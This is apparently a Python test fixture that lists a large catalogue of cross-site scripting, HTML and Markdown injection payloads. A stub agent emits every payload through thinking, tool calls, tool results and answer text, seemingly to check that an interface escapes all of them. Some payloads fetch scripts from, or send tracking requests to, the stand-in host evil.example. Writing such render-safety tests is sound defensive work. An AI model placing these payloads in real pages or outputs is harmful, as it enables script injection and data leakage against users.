"""Text that would like to be more than text, one or more of each kind there is; and an agent that says it all.

None is longer than a name may be, so each can be put wherever people or agents put text.
"""

from collections.abc import AsyncGenerator

from agents.steps import Question, Step, TextDelta, Thinking, ToolCall, ToolResult, Usage

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script/x>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<script>/*\u2028*/alert(1)</script>",
]
QUOTES = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "x onerror=alert(1)",
    '";alert(1);//',
    "'-alert(1)-'",
    "javascript:/*--></title></style></script><svg/onload='+/\"/+/onload=alert(1)'>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    "<IMG SRC=x ONERROR=&#97;lert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "<x contenteditable onbeforeinput=alert(1)>x</x>",
    "<style>@keyframes a{}</style><b style=animation:a onanimationend=alert(1)>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:null/alert(1)",
    "//evil.example/x",
    "https:javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1) form=composer>x</button>",
    "<map><area href=javascript:alert(1) shape=default></map>",
]
REQUESTS = [
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/pixel.gif 2x'>",
    "<img src='//evil.example/?",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/x.css';</style>",
    '<b style="background:url(//evil.example/x)">x</b>',
    "<style>body{display:none}</style>",
    "<video poster=//evil.example/x.png>",
    "<input type=image src=//evil.example/x.png>",
    "<table background=//evil.example/x.png>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a id=bootstrap>{}</a><form id=composer><input name=content>",
]
ENCODINGS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60script&#62alert(1)&#60/script&#62",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% load x %}{{ request.user.password }}",
    "\u202egnp.exe <b>bidi</b>",
    "\u2067<img src=x onerror=alert(1)>\u2069",
]
MARKDOWN = [
    "![x](//evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif)",
    '![x](x" onerror="alert(1))',
    "[x](javascript:alert(1))",
    "[x]( java&Tab;script:alert(1) 'y')",
    '[x](https://example.com/ "\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "```<script>alert(1)</script>\ncode\n```",
    '```python" onload="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
]
ATTACKS = [*SCRIPTS, *QUOTES, *HANDLERS, *ADDRESSES, *REQUESTS, *MUTATIONS, *ENCODINGS, *MARKDOWN]
CALLS = 16  # tool calls in an answer; there may be 20 steps


async def parrot(question: Question) -> AsyncGenerator[Step]:
    """Everything, as thoughts, as arguments, purposes and results of tools, and as the answer."""
    yield Thinking("\n".join(ATTACKS))
    for number in range(CALLS):
        key, part = f"call-{number}", ATTACKS[number::CALLS]
        yield ToolCall(key, "parrot", {"given": part}, part[0])
        yield ToolResult(key, "parrot", "\n".join(part), is_error=number % 2 == 1, duration_ms=1)
    for attack in ATTACKS:
        yield TextDelta(f"{attack}\n\n")
    yield Usage(1, "parrot-1")
